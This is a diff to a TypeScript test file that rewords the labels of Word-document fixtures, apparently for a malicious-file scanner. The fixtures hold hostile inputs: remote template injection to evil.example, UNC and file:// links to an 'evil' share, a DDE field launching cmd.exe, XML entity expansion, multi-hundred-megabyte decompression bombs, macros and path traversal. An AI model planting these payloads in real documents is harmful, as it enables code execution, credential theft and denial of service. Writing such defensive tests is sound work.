@@ -44,14 +44,14 @@ async function locked(): Promise<Buffer> {
 const entities = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>';
 
 const words: [string, () => Buffer | Promise<Buffer>][] = [
-  ['a sound Word document', () => makeWord({ relationships: relate('hyperlink', 'https://ncert.nic.in', true) })],
+  ['a valid Word document', () => makeWord({ relationships: relate('hyperlink', 'https://ncert.nic.in', true) })],
   ['a Word document with a picture', async () => makeWord({ more: { 'word/media/image1.png': await makePhoto('png') } })],
   [
     'a Word document with macros, renamed',
     () => makeWord({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
   ],
   [
-    'a Word document with macros that does not say so',
+    'a Word document with undeclared macros',
     () => makeWord({ more: { 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') } }),
   ],
   [
@@ -66,7 +66,7 @@ const words: [string, () => Buffer | Promise<Buffer>][] = [
     () => makeWord({ mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
   ],
   [
-    'a Word document with a control (ActiveX)',
+    'a Word document with an ActiveX control',
     () =>
       makeWord({
         types: override('activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
@@ -74,7 +74,7 @@ const words: [string, () => Buffer | Promise<Buffer>][] = [
       }),
   ],
   [
-    'a Word document with an object (OLE)',
+    'a Word document with an OLE object',
     () =>
       makeWord({
         relationships: relate('oleObject', 'embeddings/oleObject1.bin'),
@@ -95,11 +95,11 @@ const words: [string, () => Buffer | Promise<Buffer>][] = [
   ],
   ['a Word document with an archive in it', async () => makeWord({ more: { 'word/a.zip': await makeZip({ a: 'a' }) } })],
   [
-    'a Word document with a template of another machine',
+    'a Word document with a template on another machine',
     () => makeWord({ relationships: relate('attachedTemplate', 'https://evil.example/a.dotm', true) }),
   ],
   [
-    'a Word document whose template says twice where it is',
+    'a Word document whose template has two targets',
     () =>
       makeWord({
         relationships: relate('attachedTemplate', 'https://evil.example/a.dotm', true).replace(
@@ -110,15 +110,15 @@ const words: [string, () => Buffer | Promise<Buffer>][] = [
   ],
   ['a Word document with a text named as a picture', () => makeWord({ more: { 'word/media/image1.png': '<w:document/>' } })],
   [
-    'a Word document with a font that is read as its text',
+    'a Word document with a font that is read as its main text',
     () => makeWord({ types: override('a.odttf', 'application/xml'), more: { 'word/a.odttf': Buffer.alloc(90, 1) } }),
   ],
   [
-    'a Word document with a picture of another machine',
+    'a Word document with a picture on another machine',
     () => makeWord({ relationships: relate('image', 'file://evil/share/a.png', true) }),
   ],
   [
-    'a Word document with a link to files of another machine',
+    'a Word document with a link to files on another machine',
     () => makeWord({ relationships: relate('hyperlink', '\\\\evil\\share', true) }),
   ],
   [
@@ -131,7 +131,7 @@ const words: [string, () => Buffer | Promise<Buffer>][] = [
   ],
   ['a Word document with a field that starts a program', () => makeWord({ body: field('DDE', 'AUTO c:\\cmd.exe "/k calc"') })],
   ['a Word document that declares entities', () => makeWord({ more: { 'word/a.xml': entities } })],
-  ['a Word document whose XML is broken', () => makeWord({ more: { 'word/a.xml': '<a><b></a>' } })],
+  ['a Word document with invalid XML', () => makeWord({ more: { 'word/a.xml': '<a><b></a>' } })],
   [
     'a Word document that unpacks to 210 MB',
     () => makeWord({ more: { 'word/media/image1.png': Buffer.alloc(210 * 1024 * 1024) } }),
@@ -140,20 +140,20 @@ const words: [string, () => Buffer | Promise<Buffer>][] = [
     'a Word document that unpacks to 300 MB of XML',
     () => makeWord({ more: { 'word/a.xml': Buffer.concat([Buffer.from('<a/>'), Buffer.alloc(300 * 1024 * 1024, ' ')]) } }),
   ],
-  ['a Word document with other bytes behind its end', async () => Buffer.concat([await makeWord(), Buffer.from('<script>')])],
+  ['a Word document with other bytes after its end', async () => Buffer.concat([await makeWord(), Buffer.from('<script>')])],
   [
-    'a Word document with other bytes before it',
+    'a Word document with other bytes before its start',
     async () => Buffer.concat([Buffer.from('PK\x03\x04junk', 'latin1'), await makeWord()]),
   ],
   ['a Word document with bytes between its parts', insertBetween],
   [
-    'a Word document with two parts of one name',
+    'a Word document with two parts of the same name',
     () => rename('word/aaaaaaaa.xml', 'word/document.xml', { 'word/aaaaaaaa.xml': '<a/>' }),
   ],
   ['a Word document with a part outside its folder', () => rename('word/aaa.xml', '../../aaa.xm', { 'word/aaa.xml': '<a/>' })],
-  ['a Word document whose parts are locked', locked],
+  ['a Word document with encrypted parts', locked],
   [
-    'a Word document with a PDF in its first bytes',
+    'a Word document with a PDF at its start',
     async () => {
       const { '[Content_Types].xml': types = '', ...rest } = makeWordEntries();
       return makeZip({
